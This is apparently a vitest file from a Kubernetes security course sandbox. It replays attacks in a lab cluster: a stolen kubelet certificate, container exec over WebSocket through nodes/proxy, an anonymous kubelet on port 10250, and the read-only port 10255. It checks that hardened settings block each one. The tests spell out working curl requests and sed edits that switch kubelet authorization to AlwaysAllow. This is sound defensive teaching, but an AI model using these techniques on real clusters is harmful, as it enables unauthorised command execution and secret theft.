// The attacks of the course, played whole: what each takes from an open ship, and what stops it on a guarded one.

import { beforeAll, expect, test } from "vitest";
import type { Fleet } from "../../sandbox/fleet.ts";
import { harbourRequests } from "../../sandbox/grader/captain.ts";
import { bootFleet } from "../support/fleet.ts";
import { typeOn } from "../support/type.ts";

let fleet: Fleet;
const type = (machine: string, line: string): string => typeOn(fleet, machine, line);
const api = "https://172.30.1.2:6443";

beforeAll(async () => {
  fleet = await bootFleet("attacks", { controlplane: "controlplane", node01: "worker", outsider: "outsider" });
  type("controlplane", "kubectl create secret generic loot --from-literal=word=hunter2; kubectl create namespace app");
  type("controlplane", "kubectl run web --image=nginx:1.29; sleep 20");
}, 120_000);

/** A request with the node's own certificate, from the outsider, who has copied it. */
const asNode = (path: string, more = ""): string =>
  type("outsider", `curl -s --cacert /root/ca.crt --cert /root/node.pem --key /root/node.pem ${more} '${api}${path}'`);

test("a stolen node certificate: the Node authorizer and NodeRestriction keep it to its own node", () => {
  for (const [from, to] of [
    ["/var/lib/kubelet/pki/kubelet-client-current.pem", "node.pem"],
    ["/etc/kubernetes/pki/ca.crt", "ca.crt"],
  ] as const)
    fleet.writeFile("outsider", `/root/${to}`, type("node01", `cat ${from}`));
  expect(asNode("/api/v1/nodes/node01")).toContain('"name": "node01"');
  expect(asNode("/api/v1/namespaces/default/secrets/loot")).toContain(
    'secrets \\"loot\\" is forbidden: User \\"system:node:node01\\" cannot get resource \\"secrets\\"',
  );
  expect(asNode("/api/v1/secrets")).toContain('"reason": "Forbidden"');
  const patch = "-X PATCH -H 'Content-Type: application/merge-patch+json' -d";
  const other = asNode("/api/v1/nodes/controlplane", `${patch} '{"metadata":{"labels":{"mine":"yes"}}}'`);
  expect(other).toContain('node \\"node01\\" is not allowed to modify node \\"controlplane\\"');
  const label = `{"metadata":{"labels":{"node-restriction.kubernetes.io/mine":"yes"}}}`;
  expect(asNode("/api/v1/nodes/node01", `${patch} '${label}'`)).toContain("is not allowed to modify labels");
  const pod =
    '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"busybox"}]}}';
  const created = asNode("/api/v1/namespaces/default/pods", `-H 'Content-Type: application/json' -d '${pod}'`);
  expect(created).toContain('pod does not have \\"kubernetes.io/config.mirror\\" annotation');
});

test("get on nodes/proxy is a way into every container, by WebSocket; nodes/metrics is none", () => {
  type("controlplane", "kubectl create serviceaccount lookout -n app");
  type("controlplane", "kubectl create clusterrole lookout --verb=get --resource=nodes/proxy");
  type("controlplane", "kubectl create clusterrolebinding lookout --clusterrole=lookout --serviceaccount=app:lookout");
  const token = type("controlplane", "kubectl create token lookout -n app").trim();
  const socket =
    "-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='";
  const exec = (): string =>
    type(
      "outsider",
      `curl -sk -i -m 3 --http1.1 -N -H 'Authorization: Bearer ${token}' ${socket} 'https://node01:10250/exec/default/web/web?command=hostname&output=1' | tr -d '\\0'`,
    );
  const inside = exec();
  expect(inside).toContain("101 Switching Protocols");
  expect(inside).toContain("web\n");
  type("controlplane", "kubectl delete clusterrole lookout");
  type("controlplane", "kubectl create clusterrole lookout --verb=get --resource=nodes/metrics; sleep 320");
  expect(exec()).toMatch(/403 Forbidden[\s\S]*subresource\(s\)=\[proxy\]/);
  const metrics = `curl -sk -o /dev/null -w '%{http_code}' -H 'Authorization: Bearer ${token}' https://node01:10250/metrics`;
  expect(type("outsider", metrics)).toBe("200");
});

test("anonymous on 10250: an open kubelet hands out pods and runs commands, a guarded one says 401", () => {
  const pods = "curl -sk -o /root/pods -w '%{http_code}' https://node01:10250/pods";
  expect(type("outsider", pods)).toBe("401");
  const config = "/var/lib/kubelet/config.yaml";
  type("node01", `cp ${config} /root/kept`);
  type(
    "node01",
    `sed -i -e '/anonymous:/{n;s/false/true/}' -e 's/mode: Webhook/mode: AlwaysAllow/' ${config}; systemctl restart kubelet; sleep 5`,
  );
  expect(type("outsider", pods)).toBe("200");
  expect(type("outsider", 'grep -c hostname /root/pods; grep -o \'"name":"web"\' /root/pods | head -1')).toContain(
    '"web"',
  );
  expect(type("outsider", "curl -sk -X POST 'https://node01:10250/run/default/web/web?cmd=hostname'")).toBe("web\n");
  type("node01", `cp /root/kept ${config}; systemctl restart kubelet; sleep 5`);
  expect(type("outsider", pods)).toBe("401");
  expect(type("controlplane", "kubectl exec web -- hostname")).toBe("web\n");
});

test("the read-only port answers anybody, and is gone when it is set to 0", () => {
  const low = "curl -s -o /dev/null -w '%{http_code} %{exitcode}' http://node01:10255/pods";
  expect(type("outsider", low)).toBe("000 7");
  type("node01", "echo 'readOnlyPort: 10255' >> /var/lib/kubelet/config.yaml; systemctl restart kubelet; sleep 5");
  expect(type("outsider", low)).toBe("200 0");
  type(
    "node01",
    "sed -i 's/^readOnlyPort: .*/readOnlyPort: 0/' /var/lib/kubelet/config.yaml; systemctl restart kubelet; sleep 5",
  );
  expect(type("outsider", low)).toBe("000 7");
});

test("the API server remembers people's requests with the steps that led to their answers, and not its own machinery's", () => {
  type(
    "outsider",
    "curl -sk https://controlplane:6443/api/v1/nodes; curl -sk -H 'Authorization: Bearer x' https://controlplane:6443/api",
  );
  const seen = harbourRequests(fleet.machine("controlplane"));
  const of = (path: string) => seen.findLast((each) => each.path === path);
  const refused = of("/api/v1/nodes");
  expect(refused).toMatchObject({
    port: 6443,
    from: expect.stringContaining("172.30.9.9"),
    user: "system:anonymous",
    status: 403,
  });
  expect(refused?.steps.map(({ stage, part, outcome }) => `${stage} ${part} ${outcome}`)).toEqual([
    "tcp  yes",
    "tls 1.3 yes",
    "authentication x509 skipped",
    "authentication token skipped",
    "authentication anonymous yes",
    "authorization Node skipped",
    "authorization RBAC skipped",
  ]);
  expect(of("/api")).toMatchObject({ user: undefined, status: 401 });
  expect(of("/api")?.steps.at(-1)).toMatchObject({ stage: "authentication", part: "anonymous", outcome: "no" });
  const admin = seen.find(({ user }) => user === "kubernetes-admin");
  expect(admin?.steps.at(-1)).toMatchObject({ stage: "handler", outcome: "yes" });
  expect(seen.some(({ path }) => path.includes("/leases/"))).toBe(false);
  expect(JSON.parse(JSON.stringify(seen))).toEqual(JSON.parse(JSON.stringify(structuredClone(seen))));
});
